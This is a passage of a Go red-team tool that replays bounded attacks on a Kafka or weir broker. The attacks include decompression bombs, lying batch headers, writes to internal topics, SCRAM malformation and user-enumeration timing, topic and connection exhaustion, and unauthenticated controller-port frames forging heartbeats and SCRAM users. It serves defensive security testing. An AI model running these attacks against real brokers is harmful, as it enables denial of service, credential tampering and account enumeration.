// Command redteam replays attacks on a running weir broker (or any Kafka broker) with raw
// Kafka-protocol requests and raw controller-port frames, and prints what the attacker gets back,
// the broker's resident memory (VmRSS of -pid) before, at its peak and after, and whether
// another client can still create a topic and produce. Every attack is bounded in count, bytes
// and time. docs/security.md (Attacks replayed) has the broker settings and the results.
//
//	go run ./scripts/redteam -addr 127.0.0.1:9092 -pid $PID <attack>
//
// Attacks on a Kafka listener: lying (batch header claiming 2^31-1 records), bomb (zstd batch
// inflating to -size MiB, then ListOffsets(-3) from 4 connections), listmax (only the
// ListOffsets part, on -topic), plant (write a bomb batch at offset -n to stdout, to append to
// a stopped broker's segment), pipeline (-n produces of -size MiB behind a parked fetch on one
// connection), ts9999, tslie (timestamp lies in the batch header), internal
// (__consumer_offsets), longname (249-character topic delete and re-create), scram (malformed
// SCRAM messages; -user names a SCRAM user), enum (known -user against an unknown one),
// fdexhaust (topics until refused), percap (-n connections), connflood (hold -n connections
// while producing into 16 KiB segments), amplify (a Produce naming -n partitions; -topic
// metadata / metadata-distinct: a Metadata naming -n topics; -conns at once), preauth (64 MiB
// frames before SASL authentication; -addr a SASL listener, -health a PLAINTEXT one).
// On a controller port (-ctrl host:port): ctrl (delete_topic, put_records, heartbeat for
// another broker, a raft RPC: without credentials, with a wrong password, and as -user/-pass),
// ctrlslow (hold silent connections; -user/-pass is a broker's login that must still get in).
package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"errors"
	"flag"
	"fmt"
	"hash/crc32"
	"io"
	"math"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/klauspost/compress/zstd"
	"github.com/twmb/franz-go/pkg/kadm"
	"github.com/twmb/franz-go/pkg/kerr"
	"github.com/twmb/franz-go/pkg/kgo"
	"github.com/twmb/franz-go/pkg/kmsg"
)

var (
	addr      = flag.String("addr", "127.0.0.1:9092", "broker address")
	pid       = flag.Int("pid", 0, "broker pid, for VmRSS")
	ctrlAddr  = flag.String("ctrl", "", "controller port address (ctrl)")
	health    = flag.String("health", "", "PLAINTEXT address for the other-client check (default -addr)")
	user      = flag.String("user", "", "SASL user (scram, enum)")
	pass      = flag.String("pass", "", "SASL password")
	n         = flag.Int("n", 0, "attack-specific count")
	size      = flag.Int("size", 0, "attack-specific size in MiB")
	topicFlag = flag.String("topic", "bomb", "topic (listmax); \"metadata\" makes amplify send Metadata")
	conns     = flag.Int("conns", 4, "connections (amplify)")
)

func main() {
	flag.Parse()
	if flag.NArg() < 1 {
		fmt.Fprintln(os.Stderr, "usage: redteam [flags] ATTACK (see go doc ./scripts/redteam)")
		os.Exit(2)
	}
	attacks := map[string]func() error{
		"lying": lying, "bomb": bomb, "pipeline": pipeline, "ts9999": ts9999, "internal": internal,
		"longname": longname, "scram": scramMalformed, "enum": enum, "fdexhaust": fdexhaust,
		"percap": percap, "ctrl": ctrl, "connflood": connflood, "ctrlslow": ctrlslow, "plant": plant, "amplify": amplify, "tslie": tslie, "preauth": preauth,
		"listmax": func() error { return listOffsetsMax(*topicFlag) },
	}
	f, ok := attacks[flag.Arg(0)]
	if !ok {
		fmt.Fprintln(os.Stderr, "unknown attack", flag.Arg(0))
		os.Exit(2)
	}
	if err := f(); err != nil {
		fmt.Println("RESULT: driver error:", err)
		os.Exit(1)
	}
}

// ---- memory ----

func rssKiB() int64 {
	if *pid == 0 {
		return 0
	}
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", *pid))
	if err != nil {
		return -1
	}
	for _, l := range strings.Split(string(b), "\n") {
		if strings.HasPrefix(l, "VmRSS:") {
			v, _ := strconv.ParseInt(strings.Fields(l)[1], 10, 64)
			return v
		}
	}
	return -1
}

// rssWatch samples VmRSS every 10 ms until stop is called; stop returns before/peak/after in MiB.
func rssWatch() (stop func() string) {
	before := rssKiB()
	var peak atomic.Int64
	peak.Store(before)
	done := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		t := time.NewTicker(10 * time.Millisecond)
		defer t.Stop()
		for {
			select {
			case <-done:
				return
			case <-t.C:
				if v := rssKiB(); v > peak.Load() {
					peak.Store(v)
				}
			}
		}
	}()
	return func() string {
		close(done)
		wg.Wait()
		time.Sleep(500 * time.Millisecond)
		return fmt.Sprintf("RSS before %d MiB, peak %d MiB, after %d MiB", before>>10, peak.Load()>>10, rssKiB()>>10)
	}
}

// ---- raw Kafka connection ----

type conn struct {
	c      net.Conn
	corr   int32
	format *kmsg.RequestFormatter
}

func dial() (*conn, error) {
	c, err := net.DialTimeout("tcp", *addr, 5*time.Second)
	if err != nil {
		return nil, err
	}
	return &conn{c: c, format: kmsg.NewRequestFormatter(kmsg.FormatterClientID("redteam"))}, nil
}

func (c *conn) send(r kmsg.Request) (int32, error) {
	c.corr++
	buf := c.format.AppendRequest(nil, r, c.corr)
	_ = c.c.SetWriteDeadline(time.Now().Add(30 * time.Second))
	_, err := c.c.Write(buf)
	return c.corr, err
}

func (c *conn) recv(r kmsg.Response, timeout time.Duration) error {
	_ = c.c.SetReadDeadline(time.Now().Add(timeout))
	var hdr [4]byte
	if _, err := io.ReadFull(c.c, hdr[:]); err != nil {
		return err
	}
	n := binary.BigEndian.Uint32(hdr[:])
	if n > 256<<20 {
		return fmt.Errorf("response of %d bytes", n)
	}
	body := make([]byte, n)
	if _, err := io.ReadFull(c.c, body); err != nil {
		return err
	}
	body = body[4:] // correlation id
	if r.IsFlexible() && r.Key() != 18 {
		_, rest := skipTags(body)
		body = rest
	}
	r.SetVersion(r.GetVersion())
	return r.ReadFrom(body)
}

func skipTags(b []byte) (int, []byte) {
	// tagged fields count (uvarint), then tag/size/value; the header has none in practice.
	v, n := binary.Uvarint(b)
	b = b[n:]
	for i := uint64(0); i < v; i++ {
		_, n1 := binary.Uvarint(b)
		b = b[n1:]
		s, n2 := binary.Uvarint(b)
		b = b[n2+int(s):]
	}
	return int(v), b
}

func (c *conn) roundTrip(req kmsg.Request, resp kmsg.Response) error {
	resp.SetVersion(req.GetVersion())
	if _, err := c.send(req); err != nil {
		return err
	}
	return c.recv(resp, 30*time.Second)
}

func client(opts ...kgo.Opt) (*kgo.Client, *kadm.Client) {
	cl, err := kgo.NewClient(append([]kgo.Opt{kgo.SeedBrokers(*addr), kgo.RequestRetries(1),
		kgo.ProducerBatchCompression(kgo.NoCompression()), kgo.RecordRetries(2)}, opts...)...)
	if err != nil {
		panic(err)
	}
	return cl, kadm.NewClient(cl)
}

func createTopic(adm *kadm.Client, name string, parts int32) error {
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	r, err := adm.CreateTopic(ctx, parts, 1, nil, name)
	if err != nil && !errors.Is(err, kerr.TopicAlreadyExists) {
		return err
	}
	if r.Err != nil && !errors.Is(r.Err, kerr.TopicAlreadyExists) {
		return r.Err
	}
	return nil
}

// healthy checks that another client can still produce and fetch on a fresh topic.
func healthy(tag string) string {
	opts := []kgo.Opt{}
	if *health != "" {
		opts = append(opts, kgo.SeedBrokers(*health))
	}
	cl, adm := client(opts...)
	defer cl.Close()
	topic := fmt.Sprintf("health-%s-%d", tag, time.Now().UnixNano())
	if err := createTopic(adm, topic, 1); err != nil {
		return "OTHER CLIENT: create failed: " + err.Error()
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	if err := cl.ProduceSync(ctx, &kgo.Record{Topic: topic, Value: []byte("ok")}).FirstErr(); err != nil {
		return "OTHER CLIENT: produce failed: " + err.Error()
	}
	return "OTHER CLIENT: create+produce ok"
}

// ---- batches ----

// batch builds a RecordBatch v2 from already-encoded records with the given header claims.
func batch(attrs int16, numRecords, lastDelta int32, firstTs, maxTs int64, records []byte) []byte {
	b := kmsg.RecordBatch{
		FirstOffset: 0, PartitionLeaderEpoch: -1, Magic: 2, Attributes: attrs,
		LastOffsetDelta: lastDelta, FirstTimestamp: firstTs, MaxTimestamp: maxTs,
		ProducerID: -1, ProducerEpoch: -1, FirstSequence: -1, NumRecords: numRecords, Records: records,
	}
	out := b.AppendTo(nil)
	binary.BigEndian.PutUint32(out[8:], uint32(len(out)-12))
	crc := crc32.Checksum(out[21:], crc32.MakeTable(crc32.Castagnoli))
	binary.BigEndian.PutUint32(out[17:], crc)
	return out
}

// record encodes one record (no headers).
func record(delta int32, tsDelta int64, value []byte) []byte {
	var body []byte
	body = append(body, 0) // attributes
	body = binary.AppendVarint(body, tsDelta)
	body = binary.AppendVarint(body, int64(delta))
	body = binary.AppendVarint(body, -1) // key
	body = binary.AppendVarint(body, int64(len(value)))
	body = append(body, value...)
	body = binary.AppendVarint(body, 0) // headers
	return append(binary.AppendVarint(nil, int64(len(body))), body...)
}

func zstdOf(b []byte) []byte {
	enc, _ := zstd.NewWriter(nil, zstd.WithEncoderLevel(zstd.SpeedBestCompression))
	defer enc.Close()
	return enc.EncodeAll(b, nil)
}

func produceRaw(c *conn, topic string, part int32, records []byte) (int16, string, int64, error) {
	req := kmsg.NewPtrProduceRequest()
	req.SetVersion(9)
	req.Acks = -1
	req.TimeoutMillis = 10000
	t := kmsg.NewProduceRequestTopic()
	t.Topic = topic
	p := kmsg.NewProduceRequestTopicPartition()
	p.Partition = part
	p.Records = records
	t.Partitions = append(t.Partitions, p)
	req.Topics = append(req.Topics, t)
	resp := kmsg.NewPtrProduceResponse()
	if err := c.roundTrip(req, resp); err != nil {
		return 0, "", 0, err
	}
	rp := resp.Topics[0].Partitions[0]
	msg := ""
	if rp.ErrorMessage != nil {
		msg = *rp.ErrorMessage
	}
	return rp.ErrorCode, msg, rp.BaseOffset, nil
}

func errName(code int16) string {
	if code == 0 {
		return "NONE"
	}
	if e := kerr.ErrorForCode(code); e != nil {
		return e.Error()
	}
	return strconv.Itoa(int(code))
}

func endOffset(adm *kadm.Client, topic string) int64 {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	o, err := adm.ListEndOffsets(ctx, topic)
	if err != nil {
		return -1
	}
	if l, ok := o.Lookup(topic, 0); ok {
		return l.Offset
	}
	return -1
}

// ---- attacks ----

// lying: a zstd batch claiming NumRecords=MaxInt32 and LastOffsetDelta=MaxInt32-1 with one real
// record inside, sent -n times (default 50).
func lying() error {
	cnt := *n
	if cnt == 0 {
		cnt = 50
	}
	cl, adm := client()
	defer cl.Close()
	topic := "lying"
	if err := createTopic(adm, topic, 1); err != nil {
		return err
	}
	c, err := dial()
	if err != nil {
		return err
	}
	defer c.c.Close()
	now := time.Now().UnixMilli()
	good := batch(0, 1, 0, now, now, record(0, 0, []byte("acked")))
	code, _, _, err := produceRaw(c, topic, 0, good)
	fmt.Println("acknowledged record before the attack:", errName(code), err)
	w := rssWatch()
	inner := zstdOf(record(0, 0, []byte("x")))
	lie := batch(4 /* zstd */, math.MaxInt32, math.MaxInt32-1, now, now, inner)
	counts := map[string]int{}
	var lastMsg string
	for i := 0; i < cnt; i++ {
		code, msg, _, err := produceRaw(c, topic, 0, lie)
		if err != nil {
			counts["transport: "+err.Error()]++
			if c, err = dial(); err != nil {
				return err
			}
			continue
		}
		counts[errName(code)]++
		lastMsg = msg
	}
	// Uncompressed lie too: NumRecords larger than the records present.
	code, msg, _, err := produceRaw(c, topic, 0, batch(0, math.MaxInt32, math.MaxInt32-1, now, now, record(0, 0, []byte("x"))))
	fmt.Println("uncompressed lying batch:", errName(code), msg, err)
	fmt.Printf("compressed lying batch x%d: %v (message %q)\n", cnt, counts, lastMsg)
	fmt.Println(w())
	fmt.Println("log end offset of", topic, "after the attack:", endOffset(adm, topic), "(1 = only the acknowledged record)")
	fmt.Println(healthy("lying"))
	return nil
}

// bomb: one zstd batch inflating to -size MiB (default 256) of zeros in 1 MiB records,
// produced (is it accepted?) and, if accepted, ListOffsets(-3) from 4 connections.
func bomb() error {
	mib := *size
	if mib == 0 {
		mib = 256
	}
	cl, adm := client()
	defer cl.Close()
	topic := "bomb"
	if err := createTopic(adm, topic, 1); err != nil {
		return err
	}
	now := time.Now().UnixMilli()
	val := make([]byte, 1<<20)
	var recs bytes.Buffer
	for i := 0; i < mib; i++ {
		recs.Write(record(int32(i), 0, val))
	}
	comp := zstdOf(recs.Bytes())
	b := batch(4, int32(mib), int32(mib-1), now, now, comp)
	fmt.Printf("bomb batch: %d bytes compressed, %d MiB inflated\n", len(b), mib)
	c, err := dial()
	if err != nil {
		return err
	}
	defer c.c.Close()
	w := rssWatch()
	code, msg, _, err := produceRaw(c, topic, 0, b)
	fmt.Println("produce of the bomb:", errName(code), msg, err)
	fmt.Println("produce", w())
	return listOffsetsMax(topic)
}

// listOffsetsMax sends ListOffsets(-3, max timestamp) for partition 0 of topic from 4
// connections, 5 rounds each (the topic is -topic for the "listmax" attack).
func listOffsetsMax(topic string) error {
	w := rssWatch()
	var wg sync.WaitGroup
	var mu sync.Mutex
	res := map[string]int{}
	start := time.Now()
	for i := 0; i < 4; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := dial()
			if err != nil {
				return
			}
			defer c.c.Close()
			for r := 0; r < 5; r++ {
				req := kmsg.NewPtrListOffsetsRequest()
				req.SetVersion(7)
				req.ReplicaID = -1
				t := kmsg.NewListOffsetsRequestTopic()
				t.Topic = topic
				p := kmsg.NewListOffsetsRequestTopicPartition()
				p.Timestamp = -3
				p.CurrentLeaderEpoch = -1
				t.Partitions = append(t.Partitions, p)
				req.Topics = append(req.Topics, t)
				resp := kmsg.NewPtrListOffsetsResponse()
				k := ""
				if err := c.roundTrip(req, resp); err != nil {
					k = "transport: " + err.Error()
				} else {
					rp := resp.Topics[0].Partitions[0]
					k = fmt.Sprintf("%s offset=%d", errName(rp.ErrorCode), rp.Offset)
				}
				mu.Lock()
				res[k]++
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	fmt.Printf("ListOffsets(-3) x20 from 4 connections in %v: %v\n", time.Since(start).Round(time.Millisecond), res)
	fmt.Println("listoffsets", w())
	fmt.Println(healthy("bomb"))
	return nil
}

// pipeline: one connection parks a long-poll Fetch, then pipelines -n (20) produces of -size
// (40) MiB behind it without reading replies.
func pipeline() error {
	cnt, mib := *n, *size
	if cnt == 0 {
		cnt = 20
	}
	if mib == 0 {
		mib = 40
	}
	cl, adm := client()
	defer cl.Close()
	topic := "pipeline"
	if err := createTopic(adm, topic, 1); err != nil {
		return err
	}
	c, err := dial()
	if err != nil {
		return err
	}
	defer c.c.Close()
	f := kmsg.NewPtrFetchRequest()
	f.SetVersion(11)
	f.ReplicaID = -1
	f.MaxWaitMillis = 30000
	f.MinBytes = 1 << 30
	f.MaxBytes = 1 << 20
	ft := kmsg.NewFetchRequestTopic()
	ft.Topic = topic
	fp := kmsg.NewFetchRequestTopicPartition()
	fp.FetchOffset = 1 << 40
	fp.PartitionMaxBytes = 1 << 20
	fp.CurrentLeaderEpoch = -1
	fp.LogStartOffset = -1
	ft.Partitions = append(ft.Partitions, fp)
	f.Topics = append(f.Topics, ft)
	if _, err := c.send(f); err != nil {
		return err
	}
	now := time.Now().UnixMilli()
	val := make([]byte, mib<<20-200)
	_, _ = rand.Read(val[:4096])
	big := batch(0, 1, 0, now, now, record(0, 0, val))
	w := rssWatch()
	var sent atomic.Int64
	done := make(chan error, 1)
	go func() {
		for i := 0; i < cnt; i++ {
			p := kmsg.NewPtrProduceRequest()
			p.SetVersion(9)
			p.Acks = 1
			p.TimeoutMillis = 10000
			t := kmsg.NewProduceRequestTopic()
			t.Topic = topic
			pp := kmsg.NewProduceRequestTopicPartition()
			pp.Records = big
			t.Partitions = append(t.Partitions, pp)
			p.Topics = append(p.Topics, t)
			if _, err := c.send(p); err != nil {
				done <- err
				return
			}
			sent.Add(1)
		}
		done <- nil
	}()
	var serr error
	select {
	case serr = <-done:
	case <-time.After(15 * time.Second):
		serr = errors.New("writes blocked (connection muted) after 15 s")
	}
	fmt.Printf("pipelined %d x %d MiB produces behind a parked fetch: %d fully written; %v\n", cnt, mib, sent.Load(), serr)
	fmt.Println(healthy("pipeline"))
	fmt.Println(w())
	c.c.Close()
	return nil
}

// ts9999: a record stamped year 9999 (CreateTime).
func ts9999() error {
	cl, adm := client()
	defer cl.Close()
	topic := "ts9999"
	if err := createTopic(adm, topic, 1); err != nil {
		return err
	}
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	// Raw batch: franz-go converts a time.Time through UnixNano, which overflows past 2262.
	ts := time.Date(9999, 1, 1, 0, 0, 0, 0, time.UTC).UnixMilli()
	c, err := dial()
	if err != nil {
		return err
	}
	defer c.c.Close()
	code, msg, _, err := produceRaw(c, topic, 0, batch(0, 1, 0, ts, ts, record(0, 0, []byte("future"))))
	fmt.Println("produce with a year-9999 timestamp (raw batch):", errName(code), msg, err)
	code, msg, _, err = produceRaw(c, topic, 0, batch(0, 1, 0, -4883652231933, -4883652231933, record(0, 0, []byte("past"))))
	fmt.Println("produce with a year-1815 timestamp (raw batch):", errName(code), msg, err)
	err = cl.ProduceSync(ctx, &kgo.Record{Topic: topic, Value: []byte("now")}).FirstErr()
	fmt.Println("produce with now:", err, "; log end offset", endOffset(adm, topic))
	return nil
}

// internal: Produce, DeleteRecords, CreatePartitions, AlterConfigs on __consumer_offsets.
func internal() error {
	cl, adm := client(kgo.ConsumerGroup("g-internal"))
	defer cl.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	// Make the topic exist: a group offset commit.
	if err := createTopic(adm, "plain", 1); err != nil {
		return err
	}
	_, err := adm.CommitOffsets(ctx, "g-internal", kadm.OffsetsFromRecords(kgo.Record{Topic: "plain", Partition: 0, Offset: 0}))
	fmt.Println("offset commit (creates __consumer_offsets):", err)
	c, err := dial()
	if err != nil {
		return err
	}
	defer c.c.Close()
	now := time.Now().UnixMilli()
	code, msg, _, err := produceRaw(c, "__consumer_offsets", 0, batch(0, 1, 0, now, now, record(0, 0, []byte("forged"))))
	fmt.Println("Produce to __consumer_offsets:", errName(code), msg, err)
	dr, err := adm.DeleteRecords(ctx, kadm.Offsets{"__consumer_offsets": {0: {Topic: "__consumer_offsets", Partition: 0, At: 1}}})
	if err == nil {
		for _, p := range dr {
			for _, r := range p {
				err = r.Err
			}
		}
	}
	fmt.Println("DeleteRecords on __consumer_offsets:", err)
	cp, err := adm.CreatePartitions(ctx, 5, "__consumer_offsets")
	if err == nil {
		err = cp.Error()
	}
	fmt.Println("CreatePartitions on __consumer_offsets:", err)
	v := "1000"
	ac, err := adm.AlterTopicConfigs(ctx, []kadm.AlterConfig{{Name: "retention.ms", Value: &v}}, "__consumer_offsets")
	if err == nil && len(ac) > 0 {
		err = ac[0].Err
	}
	fmt.Println("IncrementalAlterConfigs on __consumer_offsets:", err)
	dt, err := adm.DeleteTopics(ctx, "__consumer_offsets")
	if err == nil {
		err = dt.Error()
	}
	fmt.Println("DeleteTopics __consumer_offsets:", err)
	return nil
}

// longname: a 240-character topic: produce 3, delete, re-create, the first offset must be 0.
func longname() error {
	cl, adm := client()
	defer cl.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	topic := "long-" + strings.Repeat("x", 244)
	fmt.Println("topic name length", len(topic))
	if err := createTopic(adm, topic, 1); err != nil {
		return err
	}
	for i := 0; i < 3; i++ {
		if err := cl.ProduceSync(ctx, &kgo.Record{Topic: topic, Value: []byte("old")}).FirstErr(); err != nil {
			return err
		}
	}
	fmt.Println("end offset before delete", endOffset(adm, topic))
	dt, err := adm.DeleteTopics(ctx, topic)
	if err == nil {
		err = dt.Error()
	}
	fmt.Println("DeleteTopics:", err)
	var cerr error
	for i := 0; i < 50; i++ {
		if cerr = createTopic(adm, topic, 1); cerr == nil {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	fmt.Println("re-create:", cerr)
	// A new client: the first one caches the deleted topic's ID (UNKNOWN_TOPIC_ID, as from Kafka).
	cl2, _ := client(kgo.RecordRetries(10))
	defer cl2.Close()
	r := cl2.ProduceSync(ctx, &kgo.Record{Topic: topic, Value: []byte("new")})
	rec, err := r.First()
	if err != nil {
		return err
	}
	fmt.Println("first produce after re-create: offset", rec.Offset, "(must be 0); end offset", endOffset(adm, topic))
	return nil
}

// ---- SASL ----

func saslConn(mech string) (*conn, error) {
	c, err := dial()
	if err != nil {
		return nil, err
	}
	h := kmsg.NewPtrSASLHandshakeRequest()
	h.SetVersion(1)
	h.Mechanism = mech
	hr := kmsg.NewPtrSASLHandshakeResponse()
	if err := c.roundTrip(h, hr); err != nil {
		return nil, err
	}
	if hr.ErrorCode != 0 {
		return nil, kerr.ErrorForCode(hr.ErrorCode)
	}
	return c, nil
}

func saslAuth(c *conn, msg []byte) (int16, string, []byte, error) {
	a := kmsg.NewPtrSASLAuthenticateRequest()
	a.SetVersion(1)
	a.SASLAuthBytes = msg
	ar := kmsg.NewPtrSASLAuthenticateResponse()
	if err := c.roundTrip(a, ar); err != nil {
		return 0, "", nil, err
	}
	m := ""
	if ar.ErrorMessage != nil {
		m = *ar.ErrorMessage
	}
	return ar.ErrorCode, m, ar.SASLAuthBytes, nil
}

func scramMalformed() error {
	try := func(name string, first []byte, final func(serverFirst []byte) []byte) {
		c, err := saslConn("SCRAM-SHA-256")
		if err != nil {
			fmt.Println(name, "handshake:", err)
			return
		}
		defer c.c.Close()
		start := time.Now()
		code, msg, sf, err := saslAuth(c, first)
		if err == nil && code == 0 && final != nil {
			code, msg, _, err = saslAuth(c, final(sf))
		}
		fmt.Printf("%s: %s %q transport=%v after %v\n", name, errName(code), msg, err, time.Since(start).Round(time.Millisecond))
	}
	try("client-first ,,n=a,r=x", []byte(",,n=a,r=x"), nil)
	try("client-first n,,", []byte("n,,"), nil)
	try("client-first empty", []byte(""), nil)
	u := *user
	if u == "" {
		u = "alice"
	}
	long := func(sf []byte) []byte {
		nonce := ""
		for _, kv := range strings.Split(string(sf), ",") {
			if strings.HasPrefix(kv, "r=") {
				nonce = kv[2:]
			}
		}
		return []byte("c=biws,r=" + nonce + ",p=" + strings.Repeat("QUFB", 4096))
	}
	try("over-long proof (16 KiB base64)", []byte("n,,n="+u+",r=abcdefghijkl"), long)
	try("proof not base64", []byte("n,,n="+u+",r=abcdefghijkl"), func(sf []byte) []byte {
		nonce := strings.TrimPrefix(strings.Split(string(sf), ",")[0], "r=")
		return []byte("c=biws,r=" + nonce + ",p=!!!!")
	})
	fmt.Println(healthy("scram"))
	return nil
}

// enum: server-first messages and PLAIN timings for a known (-user/-pass) and an unknown user.
func enum() error {
	first := func(u string) string {
		c, err := saslConn("SCRAM-SHA-256")
		if err != nil {
			return err.Error()
		}
		defer c.c.Close()
		code, msg, sf, err := saslAuth(c, []byte("n,,n="+u+",r=clientnonce123"))
		if err != nil || code != 0 {
			return fmt.Sprintf("%s %s %v", errName(code), msg, err)
		}
		parts := strings.Split(string(sf), ",")
		return fmt.Sprintf("salt %s (len %d), %s", parts[1][:8]+"...", len(parts[1])-2, parts[2])
	}
	fmt.Println("SCRAM known user  ", *user, ":", first(*user))
	fmt.Println("SCRAM unknown user ghost:", first("ghost"))
	fmt.Println("SCRAM unknown user ghost again:", first("ghost"))
	plain := func(u, p string) (string, time.Duration) {
		c, err := saslConn("PLAIN")
		if err != nil {
			return err.Error(), 0
		}
		defer c.c.Close()
		start := time.Now()
		code, msg, _, err := saslAuth(c, []byte("\x00"+u+"\x00"+p))
		return fmt.Sprintf("%s %q %v", errName(code), msg, err), time.Since(start)
	}
	// Interleaved, 1.1 s apart: failures are rate-limited per address (a burst of 10, then 1/s),
	// and a throttled answer must not be mistaken for a user-dependent one.
	tot := map[string]time.Duration{}
	res := map[string]string{}
	rounds := 5
	for i := 0; i < rounds; i++ {
		for _, u := range []string{*user, "ghost"} {
			r, d := plain(u, "wrong-password")
			tot[u] += d
			res[u] = r
			time.Sleep(1100 * time.Millisecond)
		}
	}
	for _, u := range []string{*user, "ghost"} {
		fmt.Printf("PLAIN wrong password for %s: %s, mean %v over %d\n", u, res[u], (tot[u] / time.Duration(rounds)).Round(100*time.Microsecond), rounds)
	}
	return nil
}

// fdexhaust: create topics of 10 partitions until refused (at most -n topics, default 400),
// then check that the first topic still takes produce.
func fdexhaust() error {
	cnt := *n
	if cnt == 0 {
		cnt = 400
	}
	cl, adm := client()
	defer cl.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	if err := createTopic(adm, "fd-old", 1); err != nil {
		return err
	}
	if err := cl.ProduceSync(ctx, &kgo.Record{Topic: "fd-old", Value: []byte("acked")}).FirstErr(); err != nil {
		return err
	}
	w := rssWatch()
	created := 0
	var firstErr error
	for i := 0; i < cnt; i++ {
		r, err := adm.CreateTopic(ctx, 10, 1, nil, fmt.Sprintf("fd-%d", i))
		if err == nil {
			err = r.Err
		}
		if err != nil {
			if firstErr == nil {
				firstErr = err
				fmt.Printf("refused after %d topics (%d partitions): %v (message %q)\n", created, created*10, err, r.ErrMessage)
			}
			if i > created+5 {
				break
			}
			continue
		}
		created++
	}
	fmt.Println("created", created, "topics;", w())
	if err := cl.ProduceSync(ctx, &kgo.Record{Topic: "fd-old", Value: []byte("after")}).FirstErr(); err != nil {
		fmt.Println("old topic produce after exhaustion: FAILED", err)
	} else {
		fmt.Println("old topic produce after exhaustion: ok; end offset", endOffset(adm, "fd-old"))
	}
	if err := cl.ProduceSync(ctx, &kgo.Record{Topic: "fd-0", Value: []byte("after")}).FirstErr(); err != nil {
		fmt.Println("fd-0 produce after exhaustion: FAILED", err)
	} else {
		fmt.Println("fd-0 produce after exhaustion: ok")
	}
	return nil
}

// percap: open -n (default 30) connections and send ApiVersions on each.
func percap() error {
	cnt := *n
	if cnt == 0 {
		cnt = 30
	}
	ok, closed := 0, 0
	var conns []*conn
	for i := 0; i < cnt; i++ {
		c, err := dial()
		if err != nil {
			closed++
			continue
		}
		conns = append(conns, c)
		req := kmsg.NewPtrApiVersionsRequest()
		req.SetVersion(3)
		req.ClientSoftwareName = "redteam"
		req.ClientSoftwareVersion = "1"
		resp := kmsg.NewPtrApiVersionsResponse()
		if err := c.roundTrip(req, resp); err != nil {
			closed++
		} else {
			ok++
		}
	}
	fmt.Printf("%d connections from 127.0.0.1: %d served, %d closed by the broker\n", cnt, ok, closed)
	for _, c := range conns {
		c.c.Close()
	}
	return nil
}

// ---- controller port ----

func ctrlFrame(json string) []byte {
	b := []byte{'C'}
	b = binary.BigEndian.AppendUint32(b, uint32(len(json)))
	return append(b, json...)
}

// wcpHello is the port's authentication hello with SASL PLAIN.
func wcpHello(u, p string) []byte {
	auth := "\x00" + u + "\x00" + p
	b := []byte("WCP1")
	b = append(b, 5)
	b = append(b, "PLAIN"...)
	b = binary.BigEndian.AppendUint16(b, uint16(len(auth)))
	return append(b, auth...)
}

// ctrlSend opens a connection, optionally authenticates, sends payload and reports what comes back.
func ctrlSend(name string, hello, payload []byte) {
	c, err := net.DialTimeout("tcp", *ctrlAddr, 3*time.Second)
	if err != nil {
		fmt.Println(name, "dial:", err)
		return
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(8 * time.Second))
	status := ""
	if hello != nil {
		if _, err := c.Write(hello); err != nil {
			fmt.Println(name, "write hello:", err)
			return
		}
		var st [3]byte
		if _, err := io.ReadFull(c, st[:]); err != nil {
			fmt.Printf("%s: hello answered: %v\n", name, err)
			return
		}
		ml := binary.BigEndian.Uint16(st[1:])
		msg := make([]byte, ml)
		_, _ = io.ReadFull(c, msg)
		status = fmt.Sprintf("auth status %d %q; ", st[0], msg)
		if st[0] != 0 {
			fmt.Printf("%s: %s(connection then closed)\n", name, status)
			return
		}
	}
	_, _ = c.Write(payload)
	resp, err := io.ReadAll(io.LimitReader(c, 4096))
	if len(resp) > 4 && resp[0] == 0 {
		resp = resp[4:]
	}
	fmt.Printf("%s: %sreply %q, then %v\n", name, status, resp, err)
}

func ctrl() error {
	del := ctrlFrame(`{"op":"delete_topic","broker":0,"name":"victim"}`)
	put := ctrlFrame(`{"op":"put_records","broker":0,"kind":"scram","puts":{"mallory":"x"}}`)
	hb := ctrlFrame(`{"op":"heartbeat","broker":2,"endpoints":[{"Name":"PLAINTEXT","Host":"6.6.6.6","Port":9092}],"addr":"6.6.6.6:9093","register":true,"incarnation":"evil"}`)
	// A raft RequestVote-ish frame: routing byte 'R', then hashicorp/raft's rpc type byte and msgpack.
	raft := append([]byte{'R', 1}, []byte("\x85\xa4Term\xcf\x00\x00\x00\x00\x00\x00\x03\xe8")...)
	for _, p := range []struct {
		name    string
		payload []byte
	}{{"delete_topic", del}, {"put_records scram", put}, {"heartbeat for broker 2 with attacker endpoints", hb}, {"raft RPC", raft}} {
		ctrlSend("no credentials, "+p.name, nil, p.payload)
		ctrlSend("no credentials, "+p.name+" after an empty WCP1 hello", []byte("WCP1\x00\x00\x00"), p.payload)
		ctrlSend("wrong password, "+p.name, wcpHello("controller", "guess"), p.payload)
		if *user != "" {
			ctrlSend("user "+*user+" (valid, not a broker), "+p.name, wcpHello(*user, *pass), p.payload)
		}
	}
	return nil
}

// connflood: hold -n (default 500) idle connections while another client produces 2000 records
// to a topic with 16 KiB segments (each roll opens three files), then release them and check
// that the broker still accepts connections and serves.
func connflood() error {
	cnt := *n
	if cnt == 0 {
		cnt = 500
	}
	cl, adm := client()
	defer cl.Close()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	topic := "flood"
	r, err := adm.CreateTopic(ctx, 1, 1, map[string]*string{"internal.segment.bytes": kadm.StringPtr("16384")}, topic)
	if err != nil || r.Err != nil {
		fmt.Println("create:", err, r.Err)
	}
	if err := cl.ProduceSync(ctx, &kgo.Record{Topic: topic, Value: []byte("acked")}).FirstErr(); err != nil {
		return err
	}
